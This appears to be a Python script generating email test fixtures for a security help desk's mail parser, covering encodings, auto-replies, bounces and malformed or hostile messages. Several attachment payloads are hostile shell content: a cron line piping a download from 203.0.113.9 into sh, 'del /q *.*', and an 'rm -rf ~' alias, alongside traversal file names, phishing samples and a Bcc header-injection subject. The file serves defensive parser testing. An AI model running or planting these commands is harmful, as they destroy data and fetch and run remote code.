    E("case", S034, "Daniel Weber", "d.weber@osaka-lighting.example.jp",
      body=["a small import company in Osaka. Last night a company laptop was stolen from a car parked near our office. The laptop was not encrypted"],
      notbody=["+81-6-5555-0909"], full=["+81-6-5555-0909"]),
    """stolen laptop, English format=flowed without DelSp: soft breaks joined keeping
the space; "-- " signature.""", V034, V034.split("-- \n")[0])

T035 = """窓口ご担当者様

古いメールソフトから失礼します。坂本鉄工所の坂本です。
事務所のルーターの管理画面に、知らない端末が何台もつながっているのが見えます。
無線LANのパスワードは十年前から変えていません。
"""
S035 = "無線LANに知らない端末がつながっています"
add("035-iso2022-unlabelled", crlf(message(headers(
    ew_text("坂本 正", "ISO-2022-JP") + " <sakamoto@sakamoto-tekko.example.jp>", ew_text(S035, "ISO-2022-JP"),
    "Sat, 28 Nov 2026 08:00:00 +0900", "200611280800.AA01234@sakamoto-tekko.example.jp", ["X-Mailer: Old Mailer 2.1"],
    mime=False), jis(T035))),
    E("case", S035, "坂本 正", "sakamoto@sakamoto-tekko.example.jp",
      body=["事務所のルーターの管理画面に、知らない端末が何台もつながっているのが見えます。"]),
    """old mailer: no MIME-Version, no Content-Type, ISO-2022-JP body recognised by its
escape sequences.""", T035)

T036 = """ご担当者様

駐車場を経営している西村です。
精算機に貼ってあるQRコード決済のシールの上に、別のQRコードのシールが貼られていました。
読み取ると、支払いページによく似た別のサイトに飛びます。
警察と決済会社のどちらに先に連絡すればよいでしょうか。
"""
S036 = "精算機のQRコードが偽物に貼り替えられていました"
add("036-auto-submitted-no", crlf(message(headers(
    ew_text("西村 和也") + " <nishimura@nishimura-parking.example.jp>", ew_text(S036),
    "Sat, 28 Nov 2026 10:30:00 +0900", "20261128103000.1111@nishimura-parking.example.jp",
    ["Auto-Submitted: no", "Content-Type: text/plain; charset=utf-8;", "Content-Transfer-Encoding: 8bit"]), T036.encode())),
    E("case", S036, "西村 和也", "nishimura@nishimura-parking.example.jp",
      body=["精算機に貼ってあるQRコード決済のシールの上に、別のQRコードのシールが貼られていました。"]),
    """QR code fraud; a person's mail with "Auto-Submitted: no" is not a robot; trailing
";" after the charset parameter.""", T036)

T037 = """【はなまる銀行】お客様のアカウントが一時的に制限されています。
以下のリンクから本人確認を行ってください。
https://hanamaru-bank.example.xyz/verify
"""
N037 = "はなまる銀行 <info@hanamaru-bank.example.jp>"
S037 = "【重要】アカウントの確認をお願いします"
add("037-display-name-spoof", crlf(message(headers(
    ew_text(N037) + " <alert@hanamaru-secure.example.xyz>", ew_text(S037),
    "Sat, 28 Nov 2026 03:12:00 +0900", "phish.0001@hanamaru-secure.example.xyz", TEXT_UTF8_8), T037.encode())),
    E("case", S037, N037, "alert@hanamaru-secure.example.xyz", body=["お客様のアカウントが一時的に制限されています。"]),
    """phishing that reached the desk directly: the encoded display name decodes to text
containing "<…@…>"; the address must still be the real one outside the encoded-word.""", T037)

T038 = """相談窓口 御中

小川運輸の小川です。
トラックの運行管理システムにログインすると、知らない言語の広告が表示されるようになりました。
システムの提供会社とは連絡がつきません。
"""
S038 = "運行管理システムの異常について"
add("038-quoted-name-comma", crlf(message(headers(
    '"Ogawa, Kenta \\"Ken\\" (IT)" <Kenta.Ogawa@Ogawa-Unyu.EXAMPLE.jp>', ew_text(S038),
    "Sat, 28 Nov 2026 13:00:00 +0900", "20261128130000.1212@ogawa-unyu.example.jp", TEXT_UTF8_8), T038.encode())),
    E("case", S038, 'Ogawa, Kenta "Ken" (IT)', "Kenta.Ogawa@ogawa-unyu.example.jp",
      body=["知らない言語の広告が表示されるようになりました。"]),
    """quoted display name with a comma, quoted-pairs and parentheses (not a comment);
mixed-case domain lower-cased, local part kept.""", T038)

T039 = """相談窓口 御中

原田です。銀行を名乗るメールが届いたので、メールのファイルごと添付します。
"""
INNER039 = message(headers(
    ew_text("はなまる銀行") + " <noreply@hanamaru-bank-login.example.top>", ew_text("【重要】アカウントの確認"),
    "Sat, 28 Nov 2026 07:00:00 +0900", "x9.phish.39@hanamaru-bank-login.example.top",
    ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: base64"], to="harada@harada-kaikei.example.jp"),
    b64("お客様の口座が凍結されました。下記より手続きしてください。\nhttps://hanamaru-bank-login.example.top/\n".encode()))
EML_INNER039 = crlf(INNER039)
N039 = "【重要】アカウントの確認.eml"
add("039-forward-as-eml", crlf(message(headers(
    ew_text("原田 洋子") + " <harada@harada-kaikei.example.jp>", ew_text("銀行を名乗るメールの転送"),
    "Sat, 28 Nov 2026 08:45:00 +0900", "20261128084500.1313@harada-kaikei.example.jp",
    ['Content-Type: multipart/mixed; boundary="harada-fwd"']),
    multipart("harada-fwd", [
        text_part(T039),
        part(['Content-Type: message/rfc822; name="=?UTF-8?B?%s?="' % base64.b64encode(N039.encode()).decode(),
              "Content-Disposition: attachment; filename*=UTF-8''" + pct(N039.encode())], INNER039)]))),
    E("case", "銀行を名乗るメールの転送", "原田 洋子", "harada@harada-kaikei.example.jp",
      body=["銀行を名乗るメールが届いたので、メールのファイルごと添付します。"],
      atts=[att(N039, EML_INNER039, N039)]),
    """forwarded as a file: message/rfc822 with Content-Disposition attachment and a
file name is an attachment (7bit, its size counts the CRLF line ends; sniffed
text/plain).""", T039)

# =====================================================================
# 040-047: robots and duplicates
# =====================================================================

S040 = "自動応答: Re: [相談#2026-000003] " + S003
add("040-ooo-auto-replied", crlf(message(headers(
    ew_text("佐藤 美咲") + " <misaki.sato@sato-boeki.example.co.jp>", ew_text(S040),
    "Sat, 21 Nov 2026 09:00:03 +0900", "TYCP286MB1234.autoreply.0040@sato-boeki.example.co.jp",
    ["In-Reply-To: <out-2026-000003.1@desk.example.jp>", "Auto-Submitted: auto-replied",
     "X-Auto-Response-Suppress: All"] + TEXT_UTF8_8),
    "11月30日まで出張のため不在にしております。\n急ぎのご用件は経理部までご連絡ください。\n".encode())),
    E("autoreply", S040, "佐藤 美咲", "misaki.sato@sato-boeki.example.co.jp", body=["11月30日まで出張のため不在にしております。"]),
    """out-of-office with Auto-Submitted: auto-replied; its subject carries the case tag
but it must stay a robot, not a follow-up.""")

add("041-x-autoreply", crlf(message(headers(
    "info@kobayashi-kosan.example.jp", "Re: " + ew_text("ご相談の件"),
    "Sun, 22 Nov 2026 10:00:00 +0900", "autoack.0041@kobayashi-kosan.example.jp",
    ["X-Autoreply: yes"] + TEXT_UTF8_8),
    "このメールは自動返信です。担当者より追ってご連絡いたします。\n".encode())),
    E("autoreply", "Re: ご相談の件", "", "info@kobayashi-kosan.example.jp", body=["このメールは自動返信です。"]),
    """auto-answer marked only by X-Autoreply: yes.""")

S042 = "【受付完了】お問い合わせを受け付けました（受付番号: 20261125-0042）"
add("042-precedence-bulk", crlf(message(headers(
    ew_text("サポートセンター") + " <no-reply@support.example-vendor.jp>", ew_text(S042),
    "Wed, 25 Nov 2026 11:00:00 +0900", "ticket-20261125-0042@support.example-vendor.jp",
    ["Precedence: bulk"] + TEXT_UTF8_8),
    "本メールは送信専用アドレスから自動送信しています。\nお問い合わせ内容を確認のうえ、担当者よりご連絡いたします。\n".encode())),
    E("autoreply", S042, "サポートセンター", "no-reply@support.example-vendor.jp",
      body=["本メールは送信専用アドレスから自動送信しています。"]),
    """vendor ticket acknowledgement with only Precedence: bulk (no List-Id) -> robot
(autoreply).""")

S043 = "[renrakukai:0123] 年末年始のセキュリティ対策について"
add("043-list-id", crlf(message(headers(
    ew_text("地域情報セキュリティ連絡会") + " <ml-admin@ml.example.or.jp>", ew_text(S043),
    "Thu, 26 Nov 2026 12:00:00 +0900", "ml.renrakukai.0123@ml.example.or.jp",
    ["List-Id: =?UTF-8?B?%s?= <renrakukai.ml.example.or.jp>" % base64.b64encode("地域情報セキュリティ連絡会".encode()).decode(),
     "List-Post: <mailto:renrakukai@ml.example.or.jp>",
     "List-Unsubscribe: <mailto:renrakukai-request@ml.example.or.jp?subject=unsubscribe>",
     "Precedence: list", "Sender: renrakukai-bounces@ml.example.or.jp"] + TEXT_UTF8_8, to="renrakukai@ml.example.or.jp"),
    "会員各位\n\n年末年始の長期休暇に向けて、バックアップとソフトウェア更新の確認をお願いします。\n".encode())),
    E("list", S043, "地域情報セキュリティ連絡会", "ml-admin@ml.example.or.jp",
      body=["年末年始の長期休暇に向けて、バックアップとソフトウェア更新の確認をお願いします。"]),
    """mailing-list traffic: List-Id (with an encoded phrase), List-Post, Precedence: list.""")

S044 = "【不在通知】Re: 冊子のお届けについて"
add("044-fuzai-auto-generated", crlf(message(headers(
    ew_text("田村 洋平", "ISO-2022-JP") + " <tamura@tamura-denko.example.jp>", ew_text(S044, "ISO-2022-JP"),
    "Mon, 23 Nov 2026 08:00:00 +0900", "fuzai.0044@tamura-denko.example.jp",
    ["Auto-Submitted: auto-generated", "Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]),
    jis("誠に申し訳ございませんが、11月23日から11月29日まで不在にしております。\n戻り次第ご連絡いたします。\n"))),
    E("autoreply", S044, "田村 洋平", "tamura@tamura-denko.example.jp",
      body=["11月23日から11月29日まで不在にしております。"]),
    """Japanese 不在通知 with Auto-Submitted: auto-generated (ISO-2022-JP).""")

OUT045 = "out-2026-000003.2@desk.example.jp"
ORIG045 = b"\n".join(enc(l) for l in [
    "Return-Path: <soudan@desk.example.jp>",
    "Received: from desk.example.jp (desk.example.jp [192.0.2.10])\n\tby mx1.example.net (Postfix) with ESMTPS id 4ZqX1T2abc\n\tfor <keiri@sato-boeki.example.co.jp>; Fri, 27 Nov 2026 10:00:02 +0900 (JST)",
    "From: " + ew_text("相談窓口") + " <soudan@desk.example.jp>",
    "To: keiri@sato-boeki.example.co.jp",
    "Subject: " + ew_text("[相談#2026-000003] ご相談の件（経理ご担当者様へ）"),
    "Date: Fri, 27 Nov 2026 10:00:00 +0900",
    "Message-ID: <%s>" % OUT045, "MIME-Version: 1.0", "Content-Type: text/plain; charset=UTF-8"]) + b"\n"
add("045-dsn-report", crlf(message(headers(
    "Mail Delivery System <MAILER-DAEMON@mx1.example.net>", "Undelivered Mail Returned to Sender",
    "Fri, 27 Nov 2026 10:00:05 +0900", "20261127010005.7A1B2C3D4E@mx1.example.net",
    ["Auto-Submitted: auto-replied",
     'Content-Type: multipart/report; report-type=delivery-status;\n\tboundary="7A1B2C3D4E.1764205205/mx1.example.net"'],
    ), multipart("7A1B2C3D4E.1764205205/mx1.example.net", [
        part(["Content-Description: Notification", "Content-Type: text/plain; charset=us-ascii"],
             b"This is the mail system at host mx1.example.net.\n\nI'm sorry to have to inform you that your message could not\n"
             b"be delivered to one or more recipients.\n\n<keiri@sato-boeki.example.co.jp>: host mail.sato-boeki.example.co.jp[203.0.113.25]\n"
             b"    said: 550 5.1.1 <keiri@sato-boeki.example.co.jp>: Recipient address rejected:\n    User unknown in local recipient table\n"),
        part(["Content-Description: Delivery report", "Content-Type: message/delivery-status"],
             b"Reporting-MTA: dns; mx1.example.net\nX-Postfix-Queue-ID: 7A1B2C3D4E\nArrival-Date: Fri, 27 Nov 2026 10:00:02 +0900 (JST)\n\n"
             b"Final-Recipient: rfc822; keiri@sato-boeki.example.co.jp\nOriginal-Recipient: rfc822;keiri@sato-boeki.example.co.jp\n"
             b"Action: failed\nStatus: 5.1.1\nRemote-MTA: dns; mail.sato-boeki.example.co.jp\n"
             b"Diagnostic-Code: smtp; 550 5.1.1 <keiri@sato-boeki.example.co.jp>: Recipient address\n    rejected: User unknown in local recipient table\n"),
        part(["Content-Description: Undelivered Message Headers", "Content-Type: text/rfc822-headers"], ORIG045)],
        preamble=b"This is a MIME-encapsulated message."))),
    E("bounce", "Undelivered Mail Returned to Sender", "Mail Delivery System", "MAILER-DAEMON@mx1.example.net",
      body=["This is the mail system at host mx1.example.net."], bounce="003-bec-invoice"),
    """Postfix DSN: multipart/report; report-type=delivery-status with message/delivery-status
and text/rfc822-headers (no attachments); it also says Auto-Submitted: auto-replied, but
a delivery report is a bounce. The bounced mail is <%s>, our second mail
for case 2026-000003 (opened by 003).""" % OUT045)

OUT046 = "out-2026-000002.2@desk.example.jp"
T046 = """This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  hanako@yamamoto-shoten.example.jp
    mailbox is full: retry timeout exceeded

------ This is a copy of the message's headers. ------

Return-Path: <soudan@desk.example.jp>
From: %s <soudan@desk.example.jp>
To: hanako@yamamoto-shoten.example.jp
Subject: %s
Date: Sat, 28 Nov 2026 10:00:00 +0900
Message-ID: <%s>
""" % (ew_text("相談窓口"), ew_text("[相談#2026-000002] その後いかがでしょうか"), OUT046)
add("046-bounce-plain", crlf(message(headers(
    "postmaster@mail.example.ne.jp", "Mail delivery failed: returning message to sender",
    "Sat, 28 Nov 2026 10:00:09 +0900", "E1vQx2A-000123-7k@mail.example.ne.jp",
    ["Return-Path: <>", "Content-Type: text/plain; charset=us-ascii"]), T046.encode())),
    E("bounce", "Mail delivery failed: returning message to sender", "", "postmaster@mail.example.ne.jp",
      body=["The following address(es) failed:"], bounce="002-support-scam"),
    """bounce without multipart/report: plain text from postmaster with Return-Path: <>;
the copied headers name <%s> (case 2026-000002, opened by 002).""" % OUT046)

add("047-duplicate-of-010", EML010, [("kind", "duplicate")] + EXP010[1:],
    """byte-for-byte copy of 010-guidebook-50satsu (same Message-ID): must not open a
second case.""")

# =====================================================================
# 050-092: hostile and broken input
# =====================================================================

H_BASIC = lambda subj, mid, extra=(), frm="test-sender@hostile.example.jp": headers(
    frm, subj, "Sun, 29 Nov 2026 09:00:00 +0900", mid, extra)

T050 = "添付のPDFを確認してください。\n"
add("050-truncated-part-header", crlf(message(H_BASIC(ew_text("見積書の送付"), "trunc.050@hostile.example.jp",
    ['Content-Type: multipart/mixed; boundary="cut-050"']),
    b"--cut-050\n" + text_part(T050) + b"\n--cut-050\nContent-Type: application/pdf;\n name=\"" +
    ew_text("見積").encode() + b"\nContent-Transfer-Enc")),
    E("quarantine", reason="truncated MIME"),
    """message ends inside the header block of its second part (after a readable text
part): truncated MIME -> quarantine.""")

PDF051 = pdf_bytes("Estimate 051")
add("051-missing-closing-boundary", crlf(message(H_BASIC(ew_text("閉じ境界のないメール"), "noclose.051@hostile.example.jp",
    ['Content-Type: multipart/mixed; boundary="open-051"']),
    multipart("open-051", [text_part("閉じ境界がなくても本文は読めます。\n"),
                           part(['Content-Type: application/pdf; name="estimate.pdf"', "Content-Transfer-Encoding: base64"],
                                b64(PDF051))], close=False))),
    E("case", "閉じ境界のないメール", "", "test-sender@hostile.example.jp",
      body=["閉じ境界がなくても本文は読めます。"], atts=[att("estimate.pdf", PDF051)]),
    """multipart without its closing boundary: tolerated, the last part (a complete
base64 PDF) runs to the end of the message.""", "閉じ境界がなくても本文は読めます。")


def nested(depth, leaf):
    body = leaf
    for lvl in range(depth, 1, -1):
        body = part(['Content-Type: multipart/mixed; boundary="n%d"' % lvl], multipart("n%d" % lvl, [body]))
    return multipart("n1", [body])


for num, depth, kind in ((52, 65, "quarantine"), (53, 64, "case"), (54, 1000, "quarantine")):
    leaf = text_part("入れ子の深さは%d段です。\n" % depth)
    eml = crlf(message(H_BASIC("Nested %d" % depth, "nest%d.%03d@hostile.example.jp" % (depth, num),
                               ['Content-Type: multipart/mixed; boundary="n1"']), nested(depth, leaf)))
    if kind == "case":
        exp = E("case", "Nested %d" % depth, "", "test-sender@hostile.example.jp", body=["入れ子の深さは%d段です。" % depth])
    else:
        exp = E("quarantine", reason="nesting too deep")
    add("%03d-nesting-%d" % (num, depth), eml, exp,
        """%d nested multipart/mixed entities (the top-level one counts as 1) around one
text/plain part: limit is 64 -> %s.""" % (depth, kind))

# 055: header section over 1 MiB, fewer than 10,000 fields, short lines
fields = []
i = 0
while sum(len(f) + 1 for f in fields) <= MIB + 4096:
    blob = base64.b64encode(stream(b"arc%d" % i, 450)).decode()
    fields.append("ARC-Seal: i=%d; a=rsa-sha256; d=relay%04d.example.net; s=arc;\n\tb=" % (i + 1, i) +
                  "\n\t ".join(blob[k:k + 72] for k in range(0, len(blob), 72)))
    i += 1
h055 = H_BASIC("Huge header section", "huge.055@hostile.example.jp", fields + TEXT_UTF8_8)
assert len(h055) > MIB and len(fields) < 10000 and max(len(l) for l in h055.split(b"\n")) < 200
add("055-header-section-1mib", crlf(message(h055, "本文\n".encode())),
    E("quarantine", reason="header section too large"),
    """%d ARC-Seal fields, folded into short lines: header section of %d bytes (> 1 MiB)
with fewer than 10,000 fields -> quarantine.""" % (len(fields), len(crlf(h055))))

for num, total, kind in ((56, 10001, "quarantine"), (57, 10000, "case")):
    base = H_BASIC("Header fields %d" % total, "fields%d.%03d@hostile.example.jp" % (total, num), TEXT_UTF8_8)
    nbase = base.count(b"\n") + 1
    filler = ["X-Trace: %05d" % k for k in range(total - nbase)]
    h = base + b"\n" + "\n".join(filler).encode()
    assert h.count(b"\n") + 1 == total and len(h) < MIB
    eml = crlf(message(h, ("ヘッダーの数は%d個です。\n" % total).encode()))
    if kind == "case":
        exp = E("case", "Header fields %d" % total, "", "test-sender@hostile.example.jp",
                body=["ヘッダーの数は%d個です。" % total])
    else:
        exp = E("quarantine", reason="header section too large")
    add("%03d-header-fields-%d" % (num, total), eml, exp,
        """exactly %d top-level header fields (one line each, %d bytes): the limit is
10,000 fields -> %s.""" % (total, len(crlf(h)), kind))

long058 = b"X-Junk: " + b"A" * (MIB + 64)
add("058-header-line-1mib", crlf(long058 + b"\n" + message(H_BASIC("Long header line", "long.058@hostile.example.jp", TEXT_UTF8_8), "本文\n".encode())),
    E("quarantine", reason="header line too long"),
    """the first header line is %d bytes long (> 1 MiB, no folding). The header section
is then over 1 MiB too; the more specific reason, header line too long, is expected.""" % len(long058))

add("059-nul-in-header", crlf(message(H_BASIC(b"Subject: Invoice\x00\x00 for you", "nul.059@hostile.example.jp", TEXT_UTF8_8),
                                      "請求書です。\n".encode())),
    E("quarantine", reason="NUL bytes"), """NUL bytes inside the Subject header -> quarantine.""")

T060 = "請求書の件でご相談です。\n金額が以前と違っています。\n"
raw060 = "請求書の件".encode() + b"\x00\x00" + "でご相談です。\n".encode() + "金額が".encode() + b"\x00" + "以前と違っています。\n".encode()
add("060-nul-in-body", crlf(message(H_BASIC(ew_text("本文にNULがあるメール"), "nul.060@hostile.example.jp", TEXT_UTF8_8), raw060)),
    E("case", "本文にNULがあるメール", "", "test-sender@hostile.example.jp",
      body=["請求書の件でご相談です。", "金額が以前と違っています。"]),
    """NUL bytes between characters of an 8bit UTF-8 body: removed (not replaced), the
mail is a case.""", T060)

junk = bytes(0x80 + (b & 0x7F) for b in stream(b"junk", 4096))
add("061-binary-junk", junk, E("quarantine", reason="no header section"),
    """4096 bytes of high-bit junk: no line ends, no colon, no NUL -> no header section.""")
add("062-empty-file", b"", E("quarantine", reason="no header section"), """a zero-byte message.""")
add("063-text-without-headers", crlf("お世話になっております。\nウイルスに感染したかもしれません。\nよろしくお願いします。\n".encode()),
    E("quarantine", reason="no header section"),
    """plain UTF-8 text pasted without any header (first line has no colon).""")

T064 = "改行がCRだけのメールです。\n古いMacのメールソフトから送っています。\n"
m064 = message(H_BASIC(ew_text("CRだけの改行"), "cr.064@hostile.example.jp", TEXT_UTF8_8), T064.encode())
add("064-bare-cr", m064.replace(b"\n", b"\r"),
    E("case", "CRだけの改行", "", "test-sender@hostile.example.jp", body=["改行がCRだけのメールです。", "古いMacのメールソフトから送っています。"]),
    """every line ends in a bare CR (headers, blank line and body).""", T064)

PNG065 = png_bytes(4, 4, 65)
T065 = "改行がLFだけのメールです。画像を添付します。\n"
add("065-bare-lf", message(H_BASIC(ew_text("LFだけの改行"), "lf.065@hostile.example.jp",
                                   ['Content-Type: multipart/mixed; boundary="lf-065"']),
                           multipart("lf-065", [text_part(T065),
                                                part(['Content-Type: image/png; name="screen.png"',
                                                      'Content-Disposition: attachment; filename="screen.png"',
                                                      "Content-Transfer-Encoding: base64"], b64(PNG065))])),
    E("case", "LFだけの改行", "", "test-sender@hostile.example.jp", body=["改行がLFだけのメールです。画像を添付します。"],
      atts=[att("screen.png", PNG065)]),
    """every line ends in a bare LF, including the MIME boundaries of a multipart/mixed
with a PNG attachment.""", T065)

T066 = "ヘッダーはCRLF、本文はLFとCRLFが混在しています。\n"
m066 = crlf(H_BASIC(ew_text("改行の混在"), "mixed.066@hostile.example.jp",
                    ['Content-Type: multipart/alternative; boundary="mix-066"'])) + b"\r\n\r\n" + \
    b"--mix-066\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\n\n" + T066.encode() + \
    b"\r\n--mix-066\r\nContent-Type: text/html; charset=UTF-8\n\r\n<p>" + "HTML側の本文".encode() + b"</p>\n--mix-066--\r\n"
add("066-mixed-line-ends", m066,
    E("case", "改行の混在", "", "test-sender@hostile.example.jp", body=["ヘッダーはCRLF、本文はLFとCRLFが混在しています。"],
      notbody=["HTML側の本文"]),
    """CRLF headers, then LF and CRLF mixed inside a multipart/alternative (plain
chosen over html).""", T066 + "HTML側の本文", T066)

add("067-subject-injection", crlf(message(H_BASIC("=?UTF-8?Q?Hello=0D=0ABcc:_evil@example.com?=", "inject.067@hostile.example.jp",
                                                  TEXT_UTF8_8), "件名に改行が埋め込まれています。\n".encode())),
    E("case", "Hello Bcc: evil@example.com", "", "test-sender@hostile.example.jp", body=["件名に改行が埋め込まれています。"]),
    """header injection: CR LF encoded inside a Q encoded-word become spaces, collapsed;
the subject stays one line.""", "件名に改行が埋め込まれています。")

A068 = [
    ('name="../../etc/passwd"', "../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", "passwd"),
    ("filename*=UTF-8''" + pct(b"C:\\Windows\\system32\\evil.exe"), "C:\\Windows\\system32\\evil.exe", exe_bytes(), "evil.exe"),
    ('filename="C:\\\\Users\\\\Public\\\\run.bat"', "C:\\Users\\Public\\run.bat", b"@echo off\r\ndel /q *.*\r\n", "run.bat"),
    ('filename="/etc/cron.d/backdoor"', "/etc/cron.d/backdoor", b"* * * * * root curl http://203.0.113.9/x | sh\n", "backdoor"),
    ("filename*=UTF-8''" + pct(b"..\\..\\Startup\\.bashrc"), "..\\..\\Startup\\.bashrc", b"alias ls='rm -rf ~'\n", "bashrc"),
]


def att_parts(spec, ctype="application/octet-stream"):
    parts, exps = [], []
    for param, name, data, want in spec:
        if param.startswith("name="):
            hl = ["Content-Type: %s; %s" % (ctype, param)]
        else:
            hl = ["Content-Type: " + ctype, "Content-Disposition: attachment; " + param]
        parts.append(part(hl + ["Content-Transfer-Encoding: base64"], b64(data)))
        exps.append(att(name, data, want))
    return parts, exps


p, a = att_parts(A068)
add("068-path-traversal-names", crlf(message(H_BASIC(ew_text("添付ファイル名にパス"), "path.068@hostile.example.jp",
                                                     ['Content-Type: multipart/mixed; boundary="path-068"']),
                                             multipart("path-068", [text_part("パス付きのファイル名です。\n")] + p))),
    E("case", "添付ファイル名にパス", "", "test-sender@hostile.example.jp", body=["パス付きのファイル名です。"], atts=a),
    """path tricks in file names: ../../etc/passwd, C:\\Windows\\system32\\evil.exe (RFC 2231),
C:\\\\Users\\\\… as quoted-pairs, /etc/cron.d/backdoor, ..\\..\\Startup\\.bashrc (leading dot
stripped after the path).""", "パス付きのファイル名です。")

A069 = [
    ('filename="CON.txt"', "CON.txt", b"con\n", "_CON.txt"),
    ('filename="NUL"', "NUL", png_bytes(2, 2, 69), "_NUL"),
    ('name="LPT1.pdf"', "LPT1.pdf", pdf_bytes("LPT1"), "_LPT1.pdf"),
    ("filename*=UTF-8''" + pct("見積:最終版?.pdf".encode()), "見積:最終版?.pdf", pdf_bytes("final"), "見積_最終版_.pdf"),
    ("filename*=UTF-8''" + pct(b'..hidden"<x>|y*.txt'), '..hidden"<x>|y*.txt', b"hidden\n", "hidden__x__y_.txt"),
]
p, a = att_parts(A069)
add("069-windows-reserved-names", crlf(message(H_BASIC(ew_text("Windowsで使えない名前"), "win.069@hostile.example.jp",
                                                       ['Content-Type: multipart/mixed; boundary="win-069"']),
                                               multipart("win-069", [text_part("Windowsで保存できない名前です。\n")] + p))),
    E("case", "Windowsで使えない名前", "", "test-sender@hostile.example.jp", body=["Windowsで保存できない名前です。"], atts=a),
    """Windows-hostile names: CON.txt, NUL, LPT1.pdf (reserved -> "_" prefix),
「見積:最終版?.pdf」 and ..hidden"<x>|y*.txt (invalid characters -> "_", leading dots).""",
    "Windowsで保存できない名前です。")

A070 = [
    ("filename*=UTF-8''report%0D%0A%07.pdf", "report\r\n\x07.pdf", pdf_bytes("report"), "report.pdf"),
    ("filename*=UTF-8''%1B%5B31mred%1B%5B0m.txt", "\x1b[31mred\x1b[0m.txt", b"red\n", "[31mred[0m.txt"),
    ('name="=?UTF-8?Q?tab=09name=7F.png?="', "tab\tname\x7f.png", png_bytes(3, 3, 70), "tabname.png"),
]
p, a = att_parts(A070)
add("070-control-char-names", crlf(message(H_BASIC(ew_text("制御文字入りのファイル名"), "ctl.070@hostile.example.jp",
                                                   ['Content-Type: multipart/mixed; boundary="ctl-070"']),
                                           multipart("ctl-070", [text_part("制御文字入りの名前です。\n")] + p))),
    E("case", "制御文字入りのファイル名", "", "test-sender@hostile.example.jp", body=["制御文字入りの名前です。"], atts=a),
    """control characters in file names (CR LF BEL, ESC terminal sequences, TAB and DEL
in an encoded-word) are removed.""", "制御文字入りの名前です。")

N071a = "資" * 296 + ".pdf"
N071b = "A" * 296 + ".txt"
pa = pct(N071a.encode())
# cut segments between percent triplets
segs, cur = [], ""
for tok in re.findall(r"%[0-9A-F]{2}|.", pa):
    if len(cur) + len(tok) > 180:
        segs.append(cur)
        cur = ""
    cur += tok
segs.append(cur)
disp_a = "Content-Disposition: attachment;" + ";".join(
    "\n filename*%d*=%s%s" % (n, "UTF-8''" if n == 0 else "", s) for n, s in enumerate(segs))
disp_b = "Content-Disposition: attachment;" + ";".join(
    '\n filename*%d="%s"' % (n, N071b[k:k + 70]) for n, k in enumerate(range(0, len(N071b), 70)))
PDF071, TXT071 = pdf_bytes("long"), b"long name\n"
add("071-long-names-300", crlf(message(H_BASIC(ew_text("長すぎるファイル名"), "long.071@hostile.example.jp",
                                               ['Content-Type: multipart/mixed; boundary="long-071"']),
                                       multipart("long-071", [
                                           text_part("300文字のファイル名です。\n"),
                                           part(["Content-Type: application/pdf", disp_a, "Content-Transfer-Encoding: base64"], b64(PDF071)),
                                           part(["Content-Type: text/plain", disp_b, "Content-Transfer-Encoding: base64"], b64(TXT071))]))),
    E("case", "長すぎるファイル名", "", "test-sender@hostile.example.jp", body=["300文字のファイル名です。"],
      atts=[att(N071a, PDF071, "資" * 66), att(N071b, TXT071, "A" * 200)]),
    """300-character file names in RFC 2231 continuations (%d encoded UTF-8 segments; %d
plain segments): the safe name keeps its first 200 bytes, cut on a UTF-8 boundary
(66 × 資 = 198 bytes; 200 × A).""" % (len(segs), len(range(0, len(N071b), 70))), "300文字のファイル名です。")

PDF072 = pdf_bytes("not a photo")
add("072-jpeg-really-pdf", crlf(message(H_BASIC(ew_text("写真を送ります"), "jpgpdf.072@hostile.example.jp",
                                                ['Content-Type: multipart/mixed; boundary="jp-072"']),
                                        multipart("jp-072", [text_part("現場の写真です。\n"),
                                                             part(['Content-Type: image/jpeg; name="photo.jpg"',
                                                                   'Content-Disposition: attachment; filename="photo.jpg"',
                                                                   "Content-Transfer-Encoding: base64"], b64(PDF072))]))),
    E("case", "写真を送ります", "", "test-sender@hostile.example.jp", body=["現場の写真です。"],
      atts=[att("photo.jpg", PDF072)]),
    """declared image/jpeg, really a PDF: sniffed application/pdf.""", "現場の写真です。")

EXE073, GIF073 = exe_bytes(), gif_bytes()
N073 = "請求書.pdf"
add("073-exe-as-pdf", crlf(message(H_BASIC(ew_text("請求書を添付します"), "exe.073@hostile.example.jp",
                                           ['Content-Type: multipart/mixed; boundary="exe-073"']),
                                   multipart("exe-073", [
                                       text_part("請求書をご確認ください。\n"),
                                       part(['Content-Type: application/pdf; name="%s"' % ew_text(N073),
                                             'Content-Disposition: attachment; filename="%s"' % ew_text(N073),
                                             "Content-Transfer-Encoding: base64"], b64(EXE073)),
                                       part(['Content-Type: image/png; name="logo.png"', "Content-Transfer-Encoding: base64"], b64(GIF073))]))),
    E("case", "請求書を添付します", "", "test-sender@hostile.example.jp", body=["請求書をご確認ください。"],
      atts=[att(N073, EXE073, N073), att("logo.png", GIF073)]),
    """an executable (MZ…, with NULs) declared application/pdf as 「請求書.pdf」 is
application/octet-stream; a GIF declared image/png is image/gif.""", "請求書をご確認ください。")

add("074-empty-body", crlf(H_BASIC(ew_text("ご相談"), "empty.074@hostile.example.jp", TEXT_UTF8_8) + b"\n\n"),
    E("case", "ご相談", "", "test-sender@hostile.example.jp"),
    """headers, the blank line, and no body at all.""")
add("075-headers-only", crlf(H_BASIC("Only headers", "hdronly.075@hostile.example.jp") + b"\n"),
    E("case", "Only headers", "", "test-sender@hostile.example.jp"),
    """headers only: the message ends after the last header line, no blank line.""")

T076 = "ネットバンキングで身に覚えのない送金がありました。\n境界の指定がないマルチパートです。\n"
add("076-multipart-no-boundary", crlf(message(H_BASIC(ew_text("境界のないマルチパート"), "nobd.076@hostile.example.jp",
                                                      ["Content-Type: multipart/mixed"]), T076.encode())),
    E("case", "境界のないマルチパート", "", "test-sender@hostile.example.jp",
      body=["ネットバンキングで身に覚えのない送金がありました。"]),
    """multipart/mixed with no boundary parameter: the body is read as text/plain
(unlabelled 8bit UTF-8).""", T076)

T077 = "不正送金の被害にあいました。\n--other-boundary\nこの行も本文です。\n"
add("077-boundary-never-appears", crlf(message(H_BASIC(ew_text("境界が現れないマルチパート"), "nevr.077@hostile.example.jp",
